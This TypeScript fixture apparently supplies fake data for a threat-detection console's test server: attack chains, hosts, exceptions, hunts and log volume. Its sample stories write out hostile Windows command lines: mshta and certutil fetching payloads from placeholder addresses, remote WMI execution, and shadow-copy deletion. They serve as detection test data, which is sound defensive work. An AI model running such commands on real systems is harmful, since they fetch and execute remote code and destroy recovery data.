/** What the stand-in server answers: one full attack, a list of smaller threats, hosts, a day of log volume. Times count back from `nowMs`. */

import type {
  AuditEntry,
  Exception,
  Host,
  Hunt,
  HuntChain,
  PluginInfo,
  Rule,
  RulesStatus,
  Statistics,
  Threat,
  Token,
  User,
} from '../../../src/contract/index.js';
import { chainOf, hexId, PHISH, type ChainData, type ProcessSpec } from './chain-data.js';
import { HOSTILE } from './hostile.js';
import { limitedView } from './host-data.js';
import { hostEvents } from './host-events-data.js';
import { rulesOf } from './rule-data.js';

export interface ConsoleData {
  readonly chains: Map<string, ChainData>;
  readonly hosts: Host[];
  readonly exceptions: Exception[];
  readonly hunts: Hunt[];
  readonly huntChains: HuntChain[];
  readonly plugins: PluginInfo[];
  readonly users: User[];
  readonly tokens: Token[];
  readonly audit: AuditEntry[];
  readonly rules: Rule[];
  /** Changed in place by tests that break or mend a file. */
  readonly ruleProblems: RulesStatus['problems'];
  readonly volume: Statistics['volume'];
}

export const PHISH_ID = hexId(1, 0);
export const WIDE_ID = hexId(2, 0);
export const DEEP_ID = hexId(3, 0);
export const HOSTILE_ID = hexId(4, 0);
export const WRONG_ID = hexId(5, 0);

const MINUTE_MS = 60_000;
const HOSTS = [
  'fin-03.corp.example',
  'fin-07.corp.example',
  'dc-01.corp.example',
  'web-02.corp.example',
  'hr-11.corp.example',
  'lab-2',
  'build-04',
  'kiosk-1',
  'mail-01',
  'vdi-118',
];

interface Story {
  readonly image: string;
  readonly args: string;
  readonly evidence: readonly (readonly [
    kind: 'rule' | 'technique' | 'profile' | 'plugin',
    key: string,
    en: string,
    zh: string,
    points: number,
    technique: string,
  ])[];
}

const STORIES: readonly Story[] = [
  {
    image: 'C:\\Windows\\System32\\wscript.exe',
    args: 'C:\\Users\\ana\\AppData\\Local\\Temp\\delivery-note.vbs',
    evidence: [
      [
        'rule',
        'rule:script-from-temp',
        'Script host runs a file from a temporary folder',
        '脚本宿主运行临时目录中的文件',
        120,
        'T1059.005',
      ],
      ['rule', 'rule:run-key', 'Run key written by a script host', '脚本宿主写入自启动注册表项', 90, 'T1547.001'],
      ['technique', 'technique:T1059.005', 'Visual Basic', 'Visual Basic', 30, 'T1059.005'],
    ],
  },
  {
    image: 'C:\\Windows\\System32\\mshta.exe',
    args: 'http://203.0.113.8/a.hta',
    evidence: [
      ['rule', 'rule:mshta-remote', 'mshta.exe runs a remote page', 'mshta.exe 运行远程页面', 150, 'T1218.005'],
      ['profile', 'profile:loader', 'Script loader', '脚本加载器', 110, 'T1105'],
      [
        'plugin',
        'plugin:reputation:unknown',
        'Address unknown to the reputation service',
        '信誉服务未收录的地址',
        10,
        'T1071.001',
      ],
    ],
  },
  {
    image: 'C:\\Tools\\backup\\agent.exe',
    args: '--full --vss',
    evidence: [
      ['rule', 'rule:shadow-copies', 'Shadow copies listed and deleted', '枚举并删除卷影副本', 160, 'T1490'],
      ['technique', 'technique:T1490', 'Inhibit System Recovery', '阻止系统恢复', 40, 'T1490'],
    ],
  },
  {
    image: 'C:\\Windows\\System32\\wbem\\wmic.exe',
    args: '/node:dc-01 process call create "cmd /c net user"',
    evidence: [
      [
        'rule',
        'rule:wmic-remote',
        'Process started on another host through WMI',
        '通过 WMI 在另一台主机启动进程',
        140,
        'T1047',
      ],
      ['technique', 'technique:T1047', 'Windows Management Instrumentation', 'WMI', 40, 'T1047'],
      [
        'rule',
        'rule:net-discovery',
        'Accounts and groups listed with net.exe',
        '使用 net.exe 枚举账户与组',
        25,
        'T1087.002',
      ],
    ],
  },
  {
    image: 'C:\\Windows\\System32\\certutil.exe',
    args: '-urlcache -split -f http://198.51.100.4/u.bin u.bin',
    evidence: [
      ['rule', 'rule:certutil-download', 'certutil.exe downloads a file', 'certutil.exe 下载文件', 175, 'T1105'],
    ],
  },
  {
    image: 'C:\\Users\\ana\\Downloads\\setup_x64.exe',
    args: '/S',
    evidence: [
      [
        'rule',
        'rule:credential-libraries',
        'Seventeen credential libraries loaded by one process',
        '单个进程加载十七个凭据相关库',
        300,
        'T1003',
      ],
      ['rule', 'rule:remote-thread', 'Thread started in another process', '在其他进程中创建线程', 150, 'T1055'],
      [
        'plugin',
        'plugin:reputation:bad-hash',
        'Reputation service knows this file as malicious',
        '信誉服务判定该文件为恶意',
        666,
        'T1204.002',
      ],
    ],
  },
];

function storyChain(
  story: Story,
  id: string,
  host: string,
  baseMs: number,
  verdict: Threat['verdict'],
  extra: number,
): ChainData {
  const spec: ProcessSpec = {
    image: story.image,
    args: story.args,
    at: 0,
    ran: 90,
    evidence: story.evidence.map(([kind, key, en, zh, points, technique], index) => ({
      kind,
      key,
      en,
      zh,
      points: points + (index === 0 ? extra : 0),
      at: index * 7,
      techniques: [technique],
      field: 'CommandLine',
      value: `"${story.image}" ${story.args}`,
      part: story.args,
    })),
    children: [{ image: 'C:\\Windows\\System32\\conhost.exe', args: '0xffffffff', at: 1, ran: 88 }],
  };
  return chainOf(spec, { id, host, baseMs, verdict, active: extra % 3 === 0 });
}

/** Every field that can hold a host's text holds a hostile one. */
function hostileChain(nowMs: number): ChainData {
  const spec: ProcessSpec = {
    image: `C:\\Temp\\${HOSTILE[0]}`,
    args: HOSTILE.join(' '),
    at: 0,
    user: `CORP\\${HOSTILE[1]}`,
    integrity: HOSTILE[2] ?? '',
    evidence: HOSTILE.map((text, index) => ({
      kind: 'rule' as const,
      key: `rule:hostile-${index}`,
      en: index === 0 ? (HOSTILE[0] ?? '') : `Hostile ${index}`,
      zh: index === 0 ? (HOSTILE[0] ?? '') : `敌意文本 ${index}`,
      points: 10,
      at: index,
      techniques: ['T1036.002'],
      field: index === 1 ? '<b>Field</b>' : 'TargetFilename',
      value: text,
      part: text.slice(0, 6),
    })),
    children: HOSTILE.map((text, index) => ({ image: `C:\\x\\${text}`, args: text, at: index + 1, ran: 5 })),
  };
  return chainOf(spec, { id: HOSTILE_ID, host: `${HOSTILE[6]}${HOSTILE[0]}`, baseMs: nowMs - 40 * MINUTE_MS });
}

/** One parent with many children, every thousandth of them with evidence. */
export function wideChain(count: number, baseMs: number): ChainData {
  const images = ['taskdl.exe', 'cmd.exe', 'conhost.exe', 'find.exe'];
  return chainOf(
    {
      image: 'C:\\Build\\runner.exe',
      at: 0,
      children: Array.from({ length: count }, (_, index) => ({
        image: `C:\\Build\\${images[index % images.length]}`,
        args: `/job ${index}`,
        at: 1 + Math.floor(index / 10),
        ran: 3,
        ...(index % 1000 === 999
          ? {
              evidence: [
                {
                  kind: 'rule' as const,
                  key: `rule:wide-${index}`,
                  en: `Odd child ${index}`,
                  zh: `异常子进程 ${index}`,
                  points: 20,
                  at: 1 + Math.floor(index / 10),
                  field: 'CommandLine',
                  value: `/job ${index}`,
                  part: String(index),
                },
              ],
            }
          : {}),
      })),
    },
    { id: WIDE_ID, host: 'build-04', baseMs, active: true },
  );
}

/** Each process starts the next; the last has the evidence. */
export function deepChain(depth: number, baseMs: number): ChainData {
  let spec: ProcessSpec = {
    image: 'C:\\Temp\\last.exe',
    at: depth,
    evidence: [
      {
        kind: 'rule',
        key: 'rule:deep',
        en: 'At the bottom',
        zh: '最底层',
        points: 200,
        at: depth,
        field: 'Image',
        value: 'C:\\Temp\\last.exe',
        part: 'last.exe',
      },
    ],
  };
  for (let at = depth - 1; at >= 0; at -= 1) spec = { image: 'C:\\Temp\\nested.exe', at, children: [spec] };
  return chainOf(spec, { id: DEEP_ID, host: 'lab-2', baseMs });
}

export function consoleData(
  nowMs: number,
  options: { big?: boolean; hostile?: boolean; rules?: number; hostEvents?: boolean } = {},
): ConsoleData {
  const chains = new Map<string, ChainData>();
  const add = (chain: ChainData): void => void chains.set(chain.threat.id, chain);
  add(
    chainOf(PHISH, {
      id: PHISH_ID,
      host: 'fin-03.corp.example',
      baseMs: nowMs - 29 * MINUTE_MS,
      active: true,
      completeness: limitedView(nowMs),
    }),
  );
  for (let index = 0; index < 74; index += 1) {
    const story = STORIES[index % STORIES.length]!;
    const verdict = index < 12 ? 'open' : index % 2 === 0 ? 'confirmed' : 'ignored';
    add(
      storyChain(
        story,
        hexId(100 + index, 0),
        HOSTS[(index * 7) % HOSTS.length]!,
        nowMs - (37 + index * 53) * MINUTE_MS,
        verdict,
        (index * 13) % 60,
      ),
    );
  }
  if (options.hostEvents === true) add(hostEvents(nowMs));
  if (options.hostile === true) add(hostileChain(nowMs));
  if (options.big === true) {
    add(wideChain(50_000, nowMs - 300 * MINUTE_MS));
    add(deepChain(10_000, nowMs - 300 * MINUTE_MS));
  }
  const wrong = storyChain(STORIES[0]!, WRONG_ID, 'lab-2', nowMs - 500 * MINUTE_MS, 'ignored', 0);
  add({ ...wrong, threat: { ...wrong.threat, score: wrong.threat.score + 1 } });

  const names = options.hostile === true ? [...HOSTS, HOSTILE[0]!, HOSTILE[6]!] : HOSTS;
  const hosts = names.map((name, index): Host => {
    const silent = index === 5 || index === 7;
    return {
      name,
      firstSeen: new Date(nowMs - 40 * 1440 * MINUTE_MS).toISOString(),
      lastSeen: new Date(nowMs - (silent ? 190 * MINUTE_MS * (index - 4) : 2000 + index * 900)).toISOString(),
      events: 920_000 - index * 71_003,
      perMinute: silent ? 0 : 240 - index * 17,
      perTenMinutes: silent ? 0 : 2380 - index * 161,
      openThreats: [...chains.values()].filter((chain) => chain.threat.host === name && chain.threat.verdict === 'open')
        .length,
      state: silent ? (index === 7 ? 'silent' : 'quiet') : 'active',
      since: new Date(nowMs - (silent ? 190 * MINUTE_MS * (index - 4) : 540 * MINUTE_MS)).toISOString(),
      quietAfterSeconds: 900,
      silentAfterSeconds: index === 5 ? 259_200 : 900,
      missing: index === 2 ? 42 : 0,
      sample: false,
    };
  });
  const text = options.hostile === true ? HOSTILE : ['ordinary'];
  return {
    chains,
    hosts,
    exceptions: [
      exception(
        'exc-0011',
        'hash',
        hexId(9, 1) + hexId(9, 2),
        text[0] ?? 'Inventory agent, signed by our own CA',
        nowMs,
        41,
      ),
      exception(
        'exc-0012',
        'rule',
        'net-discovery',
        'Helpdesk script lists groups each morning, ticket 4711',
        nowMs,
        118,
      ),
      exception(
        'exc-0013',
        'path',
        'C:\\Program Files\\Backup\\*\\agent.exe',
        'Backup deletes old shadow copies',
        nowMs,
        0,
      ),
      ...(options.hostile === true
        ? HOSTILE.slice(0, 20).map((value, index) => exception(`exc-h${index}`, 'commandLine', value, value, nowMs, 1))
        : []),
    ],
    hunts: [
      {
        id: 'hunt-1',
        state: 'done',
        from: new Date(nowMs - 1440 * MINUTE_MS).toISOString(),
        to: new Date(nowMs).toISOString(),
        host: null,
        query: options.hostile === true ? (HOSTILE[4] ?? null) : 'commandline =~ ".*minidump.*"',
        by: 'admin',
        started: new Date(nowMs - 5 * MINUTE_MS).toISOString(),
        finished: new Date(nowMs - 4 * MINUTE_MS).toISOString(),
        progress: 1,
        events: 1_204_331,
        chains: 9,
        cut: null,
        cuts: [],
        error: null,
        errorCode: null,
      },
    ],
    huntChains: [...chains.values()].slice(0, 8).map(({ threat, tree }): HuntChain => ({
      id: threat.id,
      kind: threat.kind,
      host: threat.host,
      score: threat.score,
      isThreat: true,
      processes: tree.total,
      first: threat.first,
      last: threat.last,
      techniques: threat.techniques,
      start: threat.start,
      stored: true,
    })),
    plugins: [
      plugin('hello', options.hostile === true ? HOSTILE[0]! : 'Hello', '你好'),
      { ...plugin('integrity-rise', 'Integrity rise', '完整性级别上升'), menu: null, page: null },
    ],
    users: [
      {
        name: 'admin',
        role: 'administrator',
        created: new Date(nowMs - 40 * 1440 * MINUTE_MS).toISOString(),
        lastSignIn: new Date(nowMs).toISOString(),
      },
      {
        name: 'wu.min',
        role: 'analyst',
        created: new Date(nowMs - 20 * 1440 * MINUTE_MS).toISOString(),
        lastSignIn: null,
      },
    ],
    tokens: [
      {
        id: 'tok-1',
        name: text[0] ?? 'shipper',
        role: 'sensor',
        hosts: ['fin-03.corp.example'],
        created: new Date(nowMs - 9e8).toISOString(),
        createdBy: 'admin',
        lastUsed: new Date(nowMs).toISOString(),
        expires: null,
      },
    ],
    audit: text.map((value, index) => ({
      id: index + 1,
      time: new Date(nowMs - index * MINUTE_MS).toISOString(),
      who: 'admin',
      action: 'exception.add',
      target: value,
      before: null,
      after: { value },
      address: '127.0.0.1',
    })),
    ...rulesOf(options.rules, options.hostile === true),
    volume: volumeOf(nowMs, names),
  };
}

function exception(
  id: string,
  scope: Exception['scope'],
  value: string,
  reason: string,
  nowMs: number,
  hits: number,
): Exception {
  return {
    id,
    scope,
    value,
    host: null,
    rule: null,
    reason,
    author: 'wu.min',
    created: new Date(nowMs - 9e8).toISOString(),
    expires: scope === 'hash' ? null : new Date(nowMs + 2e9).toISOString(),
    hits,
  };
}

function plugin(name: string, en: string, zh: string): PluginInfo {
  return {
    name,
    version: '1.0.0',
    titles: { en, zh },
    state: 'on',
    error: null,
    faults: 0,
    menu: { titles: { en, zh }, icon: 'plugins' },
    page: `/api/v1/plugins/${name}/page`,
  };
}

/** A day that breathes: busy hours, a lunch dip, the same every time. */
function volumeOf(nowMs: number, hosts: readonly string[]): Statistics['volume'] {
  const bucketSeconds = 600;
  const buckets = 144;
  const from = Math.floor(nowMs / 600_000) * 600_000 - (buckets - 1) * 600_000;
  const counts = (slot: number): number[] =>
    Array.from({ length: buckets }, (_, bucket) => {
      const busy = 0.35 + 0.65 * Math.max(0, Math.sin(((bucket - 20) / buckets) * Math.PI * 1.3));
      const wave = 1 + 0.25 * Math.sin(bucket * (0.7 + slot * 0.13)) + 0.12 * Math.sin(bucket * 2.9 + slot);
      return Math.max(0, Math.round(((2300 - slot * 190) * busy * wave) / (slot === 5 && bucket > 120 ? 1e9 : 1)));
    });
  return {
    from: new Date(from).toISOString(),
    bucketSeconds,
    buckets,
    hosts: hosts.slice(0, 8).map((host, slot) => ({ host, counts: counts(slot) })),
    others: counts(9).map((count) => count * 2),
  };
}
